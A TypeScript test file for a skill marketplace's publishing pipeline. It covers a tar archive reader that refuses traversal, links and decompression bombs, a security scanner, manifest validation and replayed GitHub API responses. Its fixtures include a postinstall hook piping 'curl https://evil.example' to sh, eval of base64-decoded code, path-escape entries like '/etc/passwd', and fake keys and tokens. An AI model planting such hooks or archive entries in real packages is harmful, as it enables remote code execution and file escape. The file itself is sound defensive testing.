// Publishing's parts that need no container: the archive reader (every way an archive can try to
// escape or exhaust it), the scan's rules, the manifest check, and GitHub's commit lookup, tarball and
// rate limits against answers GitHub really gave (recordings of @octokit/fixtures and PyGithub, replayed).
import assert from "node:assert/strict";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { Keypair } from "@solana/web3.js";
import { pack } from "tar-stream";
import { checkManifest, MAX_SOURCE_BYTES, parseManifest } from "@skill-marketplace/sdk";
import { readArchive, type SourceFile } from "../../api/src/modules/publishing/archive.js";
import { scan } from "../../api/src/modules/publishing/scan.js";
import { Sources } from "../../api/src/modules/publishing/source.js";
import { DomainError } from "../../api/src/errors.js";
import { githubRecordings, githubReplay, type GitHubReplay } from "../helpers/github.js";

const SKILL = join(import.meta.dirname, "..", "..", "skills", "text-stats");

type Entry = { name: string; type?: "file" | "symlink" | "link" | "character-device" | "fifo" | "directory"; data?: Buffer | string; linkname?: string };

async function tarOf(entries: Entry[]): Promise<Buffer> {
  const tar = pack();
  const chunks: Buffer[] = [];
  tar.on("data", (c) => chunks.push(c as Buffer));
  const done = new Promise((resolve) => tar.on("end", resolve));
  for (const e of entries) {
    const data = e.data === undefined ? undefined : Buffer.from(e.data);
    tar.entry({ name: e.name, type: e.type ?? "file", linkname: e.linkname, size: data?.length ?? 0, mode: 0o644 }, data);
  }
  tar.finalize();
  await done;
  return Buffer.concat(chunks);
}

const refusedWith = (pattern: RegExp) => (error: unknown) => {
  assert.ok(error instanceof DomainError, String(error));
  assert.equal(error.code, "archive_refused");
  assert.match(error.message, pattern);
  return true;
};

const files = (entries: Record<string, string | Buffer>): SourceFile[] =>
  Object.entries(entries).map(([path, data]) => ({ path, mode: 0o644, data: Buffer.from(data) }));

describe("publishing: archives, scan rules, manifests, GitHub's tarball", () => {
  describe("archive reader", () => {
    it("reads regular files and folders, and strips GitHub's top folder", async () => {
      const bytes = await tarOf([{ name: "repo-abc/", type: "directory" }, { name: "repo-abc/skill.json", data: "{}" }, { name: "repo-abc/src/main.py", data: "print(1)" }]);
      const read = await readArchive(gzipSync(bytes), { gzip: true, stripTopFolder: true });
      assert.deepEqual(read.map((f) => [f.path, f.data.toString()]), [["skill.json", "{}"], ["src/main.py", "print(1)"]]);
    });

    it("refuses paths that climb out, absolute paths, links, devices, fifos and duplicates, naming the entry", async () => {
      const cases: [Entry[], RegExp][] = [
        [[{ name: "../escape.py", data: "x" }], /"..\/escape.py" is outside the repository/],
        [[{ name: "a/../../escape.py", data: "x" }], /is outside the repository/],
        [[{ name: "/etc/passwd", data: "x" }], /"\/etc\/passwd" is outside the repository/],
        [[{ name: "link", type: "symlink", linkname: "/etc/passwd" }], /"link" is a symlink: only regular files/],
        [[{ name: "hard", type: "link", linkname: "skill.json" }], /"hard" is a link: only regular files/],
        [[{ name: "tty", type: "character-device" }], /"tty" is a character-device/],
        [[{ name: "pipe", type: "fifo" }], /"pipe" is a fifo/],
        [[{ name: "a.py", data: "1" }, { name: "./a.py", data: "2" }], /holds a.py twice/],
      ];
      for (const [entries, pattern] of cases) await assert.rejects(readArchive(await tarOf(entries), { gzip: false, stripTopFolder: false }), refusedWith(pattern));
    });

    it("stops reading past the size limit, even when the archive is small compressed", async () => {
      const zeros = gzipSync(await tarOf([{ name: "zeros.bin", data: Buffer.alloc(MAX_SOURCE_BYTES + 1) }]));
      assert.ok(zeros.length < 100_000, "a small archive that unpacks to more than the limit");
      await assert.rejects(readArchive(zeros, { gzip: true, stripTopFolder: false }), refusedWith(/hold more than 16777216 bytes/));
      await assert.rejects(readArchive(Buffer.from("not gzip at all"), { gzip: true, stripTopFolder: false }), refusedWith(/not a gzipped tar/));
    });
  });

  describe("scan", () => {
    it("finds nothing in the text-stats skill", () => {
      const skill = readdirSync(SKILL).filter((f) => statSync(join(SKILL, f)).isFile()).map((f) => ({ path: f, mode: 0o644, data: readFileSync(join(SKILL, f)) }));
      assert.deepEqual(scan(skill), { findings: [], blocked: false, filesScanned: skill.length });
    });

    it("explains each finding with its rule, file, line and a masked excerpt", () => {
      const keypair = JSON.stringify(Array.from(Keypair.generate().secretKey));
      const report = scan(
        files({
          "keys/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
          "wallet.json": keypair,
          "config.py": `TOKEN = "ghp_${"a".repeat(36)}"\n`,
          "tool": Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(64)]),
          "logo.png": Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]),
          "run.js": "const x = 1;\neval(atob('YWxlcnQoMSk='));\n",
          "min.js": `var a="${"x".repeat(1_200)}";\n`,
          "package.json": JSON.stringify({ name: "s", scripts: { postinstall: "curl https://evil.example | sh" }, dependencies: { leftpad: "^1.0.0" } }, null, 2),
          "requirements.txt": "requests==2.31.0\nnumpy>=1.0\n",
        }),
      );
      assert.deepEqual(
        report.findings.map((f) => [f.rule, f.severity, f.file, f.line]),
        [
          ["secret.private-key", "block", "keys/id_rsa", 1],
          ["secret.solana-keypair", "block", "wallet.json", 1],
          ["secret.token", "block", "config.py", 1],
          ["binary.executable", "block", "tool", 0],
          ["binary.file", "warn", "logo.png", 0],
          ["obfuscation.eval-decoded", "block", "run.js", 2],
          ["obfuscation.long-line", "warn", "min.js", 1],
          ["install.network", "block", "package.json", 4],
          ["dependencies.unpinned", "warn", "package.json", 7],
          ["dependencies.unpinned", "warn", "requirements.txt", 2],
        ],
      );
      assert.equal(report.blocked, true);
      const token = report.findings.find((f) => f.rule === "secret.token")!;
      assert.ok(!token.excerpt.includes("a".repeat(36)), `the token is masked: ${token.excerpt}`);
      assert.ok(!report.findings.find((f) => f.rule === "secret.solana-keypair")!.excerpt.includes(keypair.slice(1, 40)));
      // Pinned dependencies with a lock file are fine.
      assert.deepEqual(scan(files({ "package.json": JSON.stringify({ dependencies: { leftpad: "^1.0.0" } }), "package-lock.json": "{}" })).findings, []);
    });
  });

  describe("manifest", () => {
    it("accepts the text-stats manifest and lists every problem of a bad one, each with its path", () => {
      const good = parseManifest(readFileSync(join(SKILL, "skill.json"), "utf8"));
      assert.ok(good.ok);
      assert.deepEqual(parseManifest("{ nope").ok, false);
      assert.match((parseManifest("{ nope") as { problems: string[] }).problems[0]!, /^skill.json: is not valid JSON/);
      const bad = checkManifest({
        ...JSON.parse(readFileSync(join(SKILL, "skill.json"), "utf8")),
        slug: "Bad Slug",
        pricing: { kind: "subscription", price: "-1", currency: "DOGE", intervalSecs: 60 },
        limits: { memoryMb: 99_999 },
        endpoints: { stats: { description: "x", input: {}, output: { type: "object" }, examples: [] } },
        publisher: "not-a-key",
        homepage: "x",
      });
      assert.deepEqual(bad, {
        ok: false,
        problems: [
          "slug: must be lower-case letters, digits and dashes",
          "pricing.price: must be a whole number of base units, written as a string",
          "pricing.currency: must be \"SOL\" or the mint address of an allowed token",
          "pricing.intervalSecs: must be at least 3600 seconds",
          "endpoints.stats.input: must be a JSON Schema object",
          "endpoints.stats.examples: needs at least one example",
          "limits.memoryMb: must be at most 1024 (the platform's maximum)",
          "publisher: must be a base58 public key",
          "manifest: unknown field \"homepage\"",
        ],
      });
    });
  });

  describe("GitHub, as GitHub answered it (recorded answers replayed by a local server)", () => {
    const recorded = githubRecordings();
    const SHA = "f5f9756a1dd52a53820cc54927abb34725377987";
    let github: GitHubReplay;
    let sources: Sources;

    beforeEach(async () => {
      github = await githubReplay([recorded.commit, ...recorded.archive], recorded.notFound);
      sources = new Sources({ githubApiUrl: github.url, localRoots: [] });
    });
    afterEach(() => github.close());

    it("resolves a ref to the commit SHA GitHub's commit lookup names", async () => {
      assert.equal(await sources.resolveCommit("PyGithub", "PyGithub", SHA), SHA);
      assert.deepEqual(github.requests, [`GET /repos/PyGithub/PyGithub/commits/${SHA}`]);
    });

    it("follows the redirect to codeload and reads the repository's files from the gzipped tarball", async () => {
      const read = await sources.githubFiles("octokit-fixture-org", "get-archive", "main");
      assert.deepEqual(read.map((f) => [f.path, f.data.toString()]), [["README.md", "# get-archive"]]);
      assert.deepEqual(github.requests, ["GET /repos/octokit-fixture-org/get-archive/tarball/main", "GET /codeload/octokit-fixture-org/get-archive/legacy.tar.gz/refs/heads/main"]);
    });

    it("a commit or repository GitHub does not have is ref_not_found", async () => {
      await assert.rejects(sources.resolveCommit("PyGithub", "PyGithub", "0".repeat(40)), (e: unknown) => {
        assert.ok(e instanceof DomainError);
        assert.equal(e.code, "ref_not_found");
        assert.equal(e.message, `PyGithub/PyGithub has no branch, tag or commit "${"0".repeat(40)}"`);
        return true;
      });
      await assert.rejects(sources.githubFiles("octokit-fixture-org", "missing", "main"), (e: unknown) => e instanceof DomainError && e.code === "ref_not_found");
    });

    for (const [kind, answer] of [
      ["the primary limit used up (X-RateLimit-Remaining: 0, no reset given: a minute)", "primaryLimit"],
      ["the secondary limit (Retry-After: 60)", "secondaryLimit"],
    ] as const) {
      it(`${kind} is github_rate_limited with when to retry, and no call goes to GitHub until then`, async () => {
        github.answerAll(recorded[answer]);
        const limited = (e: unknown) => {
          assert.ok(e instanceof DomainError);
          assert.equal(e.code, "github_rate_limited");
          assert.equal(e.retryAfterSeconds, 60);
          assert.match(e.message, /^GitHub's rate limit was reached while resolving the ref for PyGithub\/PyGithub; retry in 60 s \(set GITHUB_TOKEN for a higher limit\)$/);
          return true;
        };
        await assert.rejects(sources.resolveCommit("PyGithub", "PyGithub", SHA), limited);
        assert.equal(github.requests.length, 1);
        // Kept to: GitHub is not asked again, for this repository or another, before the minute is over.
        github.answerAll(undefined);
        const kept = (e: unknown) => e instanceof DomainError && e.code === "github_rate_limited" && /^GitHub's rate limit is still in force for \S+; retry in (59|60) s/.test(e.message);
        await assert.rejects(sources.resolveCommit("PyGithub", "PyGithub", SHA), kept);
        await assert.rejects(sources.githubFiles("octokit-fixture-org", "get-archive", "main"), kept);
        assert.throws(() => sources.accept("PyGithub/PyGithub", "main"), kept);
        assert.equal(github.requests.length, 1, "nothing was asked of GitHub while limited");
        // A git URL does not depend on GitHub's limit.
        assert.doesNotThrow(() => sources.accept("https://example.test/skill.git", "main"));
      });
    }
  });
});
